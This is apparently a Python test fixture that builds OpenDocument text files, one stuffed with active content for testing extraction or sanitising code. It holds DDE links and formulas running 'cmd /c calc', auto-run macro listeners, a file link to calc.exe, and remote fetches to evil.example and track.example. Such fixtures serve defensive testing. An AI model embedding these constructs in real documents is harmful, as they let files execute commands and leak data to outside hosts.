"""OpenDocument files for tests, zipped and flat: complete and valid, with everything that acts."""

from __future__ import annotations

import zipfile
from collections.abc import Mapping
from io import BytesIO

from tests.unit.extraction.packages import OLE, PNG

_NAMES = {
    "office": "office",
    "text": "text",
    "table": "table",
    "draw": "drawing",
    "script": "script",
    "form": "form",
    "presentation": "presentation",
    "meta": "meta",
}
_NAMESPACES = " ".join(
    f'xmlns:{prefix}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
    for prefix, name in _NAMES.items()
)
_HEAD = f'{_NAMESPACES} xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
_TEXT = "application/vnd.oasis.opendocument.text"

SCRIPTS = (
    '<office:scripts><office:script script:language="JavaScript">run()</office:script>'
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/>'
    "</office:event-listeners></office:scripts>"
)
BODY = (
    "<text:p>Dear reader</text:p>"
    '<text:p>a <text:execute-macro text:name="M">macro </text:execute-macro>field</text:p>'
    '<text:dde-connection-decls><text:dde-connection-decl office:name="d" '
    'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
    "</text:dde-connection-decls>"
    '<text:p><text:dde-connection text:connection-name="d">shown</text:dde-connection></text:p>'
    '<text:section text:name="s"><text:section-source xlink:href="http://evil.example/t.odt"/>'
    "<text:p>kept section</text:p></text:section>"
    '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/>'
    '<draw:image xlink:href="./ObjectReplacements/Object 1"/></draw:frame></text:p>'
    '<text:p><draw:frame><draw:image xlink:href="http://track.example/p.png"/></draw:frame></text:p>'
    '<text:p><text:a xlink:href="file:///c:/windows/system32/calc.exe">click</text:a>, '
    '<text:a xlink:href="https://example.org/">page</text:a></text:p>'
    '<text:p><draw:floating-frame xlink:href="http://evil.example/"/></text:p>'
    '<office:forms><form:form xlink:href="http://evil.example/post" form:command="SELECT 1"/>'
    "</office:forms>"
    '<table:table table:name="t"><table:table-row>'
    '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)">'
    "<text:p>result one</text:p></table:table-cell>"
    '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)">'
    "<text:p>result two</text:p></table:table-cell>"
    '<table:table-cell table:formula="of:=SUM([.A1:.A2])"><text:p>3</text:p></table:table-cell>'
    "</table:table-row></table:table>"
)
QUIET_BODY = '<text:p>Dear reader, <text:a xlink:href="https://example.org/">page</text:a></text:p>'


def content(body: str, scripts: str = "") -> str:
    """`content.xml` of a text."""
    return (
        f"<office:document-content {_HEAD}>{scripts}<office:body><office:text>{body}"
        "</office:text></office:body></office:document-content>"
    )


def flat(body: str, scripts: str = "") -> bytes:
    """The same as one file."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document {_HEAD} '
        f'office:mimetype="{_TEXT}">{scripts}<office:body><office:text>{body}</office:text>'
        "</office:body></office:document>"
    ).encode()


def package(members: Mapping[str, str | bytes], kind: str = _TEXT) -> bytes:
    """A package with its manifest, at a fixed time."""
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>'
        for name in members
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>{entries}'
        "</manifest:manifest>"
    )
    memory = BytesIO()
    with zipfile.ZipFile(memory, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), kind)
        for name, data in {**members, "META-INF/manifest.xml": manifest}.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return memory.getvalue()


def acting() -> bytes:
    """A text with all of it."""
    return package(
        {
            "content.xml": content(BODY, SCRIPTS),
            "meta.xml": f"<office:document-meta {_HEAD}><office:meta><meta:template "
            'xlink:href="http://evil.example/t.ott"/></office:meta></office:document-meta>',
            "Basic/script-lc.xml": "<a/>",
            "Basic/Standard/script-lb.xml": "<a/>",
            "Basic/Standard/M.xml": '<!DOCTYPE m PUBLIC "a" "b.dtd"><m>Sub Main</m>',
            "Scripts/python/run.py": "import os",
            "Object 1": OLE,
            "ObjectReplacements/Object 1": PNG,
            "Configurations2/menubar/menubar.xml": "<menu/>",
            "META-INF/documentsignatures.xml": "<signatures/>",
        }
    )


def quiet() -> bytes:
    """A text with a link."""
    return package({"content.xml": content(QUIET_BODY)})
